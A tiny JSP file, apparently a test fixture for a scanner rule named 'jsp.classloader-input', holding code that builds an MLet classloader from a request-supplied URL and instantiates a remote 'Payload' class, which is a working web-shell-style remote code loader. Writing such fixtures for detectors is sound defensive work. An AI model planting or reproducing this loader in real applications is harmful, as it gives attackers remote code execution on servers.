<%-- expect rule=jsp.classloader-input min=85 --%>
<%
    javax.management.loading.MLet ml = new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(request.getParameter("u"))}, Thread.currentThread().getContextClassLoader());
    ml.loadClass("Payload").newInstance();
%>
